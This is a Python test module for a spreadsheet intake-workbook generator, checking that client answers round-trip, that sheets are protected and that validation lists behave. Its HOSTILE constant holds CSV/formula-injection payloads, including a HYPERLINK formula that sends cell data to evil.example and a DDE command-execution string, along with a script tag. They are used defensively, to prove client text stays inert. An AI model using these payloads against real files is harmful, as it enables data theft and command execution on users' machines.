"""The intake workbook: what it asks, what may be filled in, and that it comes back as it went."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from datetime import date

import openpyxl
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from cxaudit.audit.workbook import to_said
from cxaudit.catalogue import load_catalogue
from cxaudit.demo import FIRMS, answers, profile
from cxaudit.errors import ClientDataError
from cxaudit.intake.workbook import read_workbook
from cxaudit.maturity import load_maturity
from cxaudit.reporting.workbook import to_bytes
from cxaudit.reporting.workbook.asking import Asking, to_blank
from cxaudit.store import (
    ClientFile,
    CriterionAnswer,
    ReportedFigure,
    UseCaseAnswer,
    apply_settings,
    merge_answers,
    to_answers,
)
from cxaudit.store.records import RECORDS
from tests.filled import FEW, Filled, write_few

CATALOGUE = load_catalogue()
KPIS = [kpi_id for kpi_id, kpi in CATALOGUE.items() if kpi.is_kpi]
HOSTILE = (
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|'/c calc'!A1", "+1+1", "-1+1",
    "@SUM(1+1)", "http://evil.example", "mailto:a@b.example", "<script>alert(1)</script>", "{=1}",
)  # fmt: skip


def write(folder, asking: Asking):
    path = folder / "book.xlsx"
    path.write_bytes(to_bytes(asking))
    return path


def read_back(path, file: ClientFile) -> dict:
    """Return the answers that a workbook gives back, as the answers file has them."""
    book = read_workbook(path)
    said, faults = to_said(book, set(KPIS), set(CATALOGUE))
    assert [str(fault) for fault in [*book.faults, *faults]] == []
    sections = {
        name: tuple(part.value for key, part in sorted(said.items()) if key[0] == name)
        for name in RECORDS
    }
    return to_answers(replace(file, **sections))


@pytest.mark.parametrize("firm", FIRMS, ids=lambda firm: firm.client_id)
def test_a_demo_firms_answers_come_back_as_they_went(firm, tmp_path):
    settings = apply_settings({}, profile(firm).items(), KPIS)
    file = ClientFile(firm.client_id, 3, profile=settings)
    file = merge_answers(file, answers(firm), KPIS, set(CATALOGUE))
    path = write(tmp_path, Asking(file, CATALOGUE, tuple(CATALOGUE[kpi] for kpi in FEW)))
    assert read_back(path, file) == to_answers(file)
    said = {s.key: s.text for s in read_workbook(path).settings if s.text}
    kept = apply_settings({}, said.items(), KPIS) | {"invented": "yes"}
    for system in settings["systems"].values():
        system["tables"] = sorted(system["tables"])
    assert kept == settings


NONCHARACTERS = "\ufffe\uffff"
typed = st.text(
    st.characters(exclude_categories=("Cc", "Cf", "Cs"), exclude_characters=NONCHARACTERS),
    min_size=1, max_size=40,
).map(str.strip).filter(lambda text: text and not re.search("_x[0-9a-fA-F]{4}_", text))  # fmt: skip
words = st.none() | typed | st.sampled_from(HOSTILE)
days = st.dates(date(1990, 1, 1), date(2060, 1, 1))
truths = st.sampled_from([None, True, False])
points = st.sampled_from([None, 0, 0.25, 0.5, 1])
links = st.sampled_from(load_maturity().criterion_ids)
shown = st.floats(-1e12, 1e12).map(lambda x: float(f"{x:.15g}"))

use_cases = st.builds(
    UseCaseAnswer, kpi_id=st.sampled_from(KPIS),
    state=st.sampled_from(["applies", "no_use_case", "unknown"]), who=words, does=words, why=words,
    strategy_link=st.sampled_from([None, 0, 1, 2]), materiality=st.sampled_from([None, 0, 1, 2]),
    theme=words, target_level=st.sampled_from([None, 1, 5]), reason=words,
    proof=words, reviewer=words,
    approver=words, until=st.none() | days, respondent=words, adjudicates=truths,
    to_confirm=truths, reason_code=st.sampled_from([None, "other", "no_such_channel"]),
)  # fmt: skip
criteria = st.builds(
    lambda link, scope, **more: CriterionAnswer(link=link[0], criterion=link[1], **scope, **more),
    link=links, value=points | st.just("na"), evidenced=points, reason=words, respondent=words,
    scope=st.sampled_from([{}, {"kpi_id": KPIS[0]}, {"kpi_id": KPIS[-1]}, {"system": "crm"}]),
    evidence=st.sampled_from(["E0", "E1", "E2", "E3"]), evidence_on=st.none() | days,
    received_on=st.none() | days,
    proof_hash=words, reason_code=st.just("other"), adjudicates=truths, to_confirm=truths,
)  # fmt: skip
figures = st.builds(
    ReportedFigure, kpi_id=st.sampled_from(sorted(CATALOGUE)), value=shown,
    period_end=days, period_start=st.none() | st.dates(date(1980, 1, 1), date(1989, 1, 1)),
)  # fmt: skip


def unique(strategy):
    return st.lists(strategy, max_size=6, unique_by=lambda record: record.key).map(
        lambda found: tuple(sorted(found, key=lambda record: record.key))
    )


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture],
    phases=[Phase.explicit, Phase.generate], database=None,
)  # fmt: skip
@given(uses=unique(use_cases), marks=unique(criteria), told=unique(figures))
def test_whatever_was_answered_comes_back_as_it_went(uses, marks, told, tmp_path):
    file = ClientFile("any", 1, use_cases=uses, criteria=marks, reported=told)
    path = write(tmp_path, Asking(file, CATALOGUE, ()))
    assert read_back(path, file) == to_answers(file)


@pytest.fixture(scope="module")
def few(tmp_path_factory):
    """Return a workbook about three KPIs of a firm whose every text is hostile."""
    told = {"who": HOSTILE[0], "does": HOSTILE[1], "why": HOSTILE[2], "respondent": HOSTILE[3]}
    uses = tuple(
        UseCaseAnswer(kpi_id=FEW[0], state="applies", **(told | {"respondent": text}))
        for text in HOSTILE
    )
    profile = {"name": HOSTILE[0], "note": HOSTILE[8], "systems": {"crm": {"name": HOSTILE[5]}}}
    file = ClientFile("small", 7, profile=profile, use_cases=uses)
    return write_few(tmp_path_factory.mktemp("few") / "few.xlsx", file)


def test_client_text_is_text_and_never_a_formula_or_a_link(few):
    with zipfile.ZipFile(few) as packed:
        parts = {name: packed.read(name).decode() for name in packed.namelist()}
    sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/")]
    assert not any("<f>" in text or "<hyperlink" in text for text in sheets)
    assert not any("hyperlink" in text for name, text in parts.items() if name.endswith(".rels"))
    filled = Filled(few)
    found = {str(cell.value) for row in filled.sheet("Use cases").iter_rows() for cell in row}
    assert set(HOSTILE) <= found


def test_cells_with_text_keep_it_text_when_they_are_edited(few):
    filled = Filled(few)
    row = filled.find("Use cases", Who="=1+1")
    assert filled.cell("Use cases", row, "Who").number_format == "@"


def test_only_cells_to_fill_in_are_unlocked_and_every_sheet_is_protected(few):
    filled = Filled(few)
    assert all(sheet.protection.sheet for sheet in filled.book)
    assert not any(sheet.protection.password for sheet in filled.book)
    head = filled.columns("Questionnaire")[0]
    locked = {
        header: filled.cell("Questionnaire", head + 1, header).protection.locked
        for header in ("Question", "Known already", "Answer", "Remark", "Answered by", "KPI id")
    }
    assert locked == {"Question": True, "Known already": True, "Answer": False, "Remark": False,
                      "Answered by": False, "KPI id": True}  # fmt: skip
    log = filled.sheet("RFP log")
    head = filled.columns("RFP log")[0]
    assert [log.cell(head + n, 2).protection.locked for n in (-2, -1, 0, 1)] == [True] * 4
    assert not log.column_dimensions["B"].protection.locked


def rules_at(filled: Filled, sheet: str, row: int, header: str) -> list:
    place = filled.cell(sheet, row, header).coordinate
    rules = filled.sheet(sheet).data_validations.dataValidation
    return [rule for rule in rules if place in rule.sqref]


def test_answers_are_chosen_from_a_list_and_the_cell_says_what_is_enough(few):
    filled = Filled(few)
    row = filled.find("Questionnaire", KPI_id="email_open_rate", Criterion_id="owner")
    (rule,) = rules_at(filled, "Questionnaire", row, "Answer")
    assert (rule.type, rule.showErrorMessage) == ("list", True)
    name = filled.book.defined_names[rule.formula1]
    column = name.attr_text.split("$")[1]
    labels = [cell.value for cell in filled.sheet("Lists")[column] if cell.value]
    assert labels == ["1 Most or all", "0.5 At least half", "0.25 Some", "0 None", "Don't know",
                      "Not applicable"]  # fmt: skip
    assert rule.prompt.startswith("Enough: The KPI register names the head")
    (day,) = rules_at(filled, "Questionnaire", row, "Seen on")
    assert day.type == "date"


def test_messages_fit_what_the_program_allows(few):
    for sheet in Filled(few).book:
        for rule in sheet.data_validations.dataValidation:
            assert len(rule.promptTitle or "") <= 32
            assert len(rule.prompt or "") <= 255


def test_the_guide_says_for_whom_it_was_made_and_lists_the_sheets(few):
    filled = Filled(few)
    guide = {row[0].value: row[1].value for row in filled.sheet("Guide").iter_rows(max_col=2)}
    assert (guide["Client"], guide["Made from revision"]) == ("small", "7")
    assert guide["Name"] == HOSTILE[0]
    shown = [s.title for s in filled.book if s.sheet_state == "visible"]
    assert set(shown[1:]) <= set(guide)


def test_only_what_applies_is_asked_and_only_logs_that_it_reads(few):
    filled = Filled(few)
    sheet, column = filled.sheet("Questionnaire"), filled.columns("Questionnaire")[1]["KPI id"]
    asked = {cell.value for row in sheet.iter_rows(min_row=5, min_col=column, max_col=column)
             for cell in row} - {None}  # fmt: skip
    assert asked == set(FEW)
    assert filled.book.sheetnames[-3:] == ["Report log", "RFP log", "Lists"]


def test_a_firm_without_systems_is_asked_once_what_systems_would_be(tmp_path):
    filled = Filled(write_few(tmp_path / "few.xlsx"))
    about = [cell.value for cell in filled.sheet("Questionnaire")["B"]]
    assert about.count("The firm as a whole") == 8


def test_a_log_has_an_example_marked_as_such_with_days_as_days(few):
    filled = Filled(few)
    head = filled.columns("RFP log")[0]
    assert filled.sheet("RFP log").cell(head + 1, 1).value == "e.g."
    assert filled.cell("RFP log", head + 1, "RFP ID").value == "R-001"
    assert filled.cell("RFP log", head + 1, "Received").value.date() == date(2025, 2, 3)


def test_the_same_answers_give_the_same_bytes(few, tmp_path):
    file = ClientFile("small", 7)
    assert (
        write_few(tmp_path / "a", file).read_bytes() == write_few(tmp_path / "b", file).read_bytes()
    )


def test_a_text_longer_than_a_cell_is_refused_with_another_way_out(tmp_path):
    long = UseCaseAnswer(kpi_id=FEW[0], state="applies", who="x" * 32_768)
    with pytest.raises(ClientDataError, match="longer than a cell") as refused:
        write_few(tmp_path / "x.xlsx", ClientFile("small", 1, use_cases=(long,)))
    assert "JSON" in refused.value.next


def test_every_sheet_prints_on_its_paper_with_its_header_repeated(few):
    for sheet in Filled(few).book:
        if sheet.sheet_state == "visible" and sheet.title != "Guide":
            assert sheet.sheet_properties.pageSetUpPr.fitToPage
            assert sheet.print_title_rows
            assert sheet.freeze_panes


def test_a_blank_workbook_asks_about_all_28_and_is_for_nobody():
    asking = to_blank()
    assert [kpi.kpi_id for kpi in asking.kpis] == KPIS
    assert (asking.file.client, asking.file.revision) == ("", 0)
    assert len(asking.logs) >= 11


def test_what_openpyxl_reads_is_what_was_written(few):
    assert openpyxl.load_workbook(few, read_only=True).sheetnames[0] == "Guide"
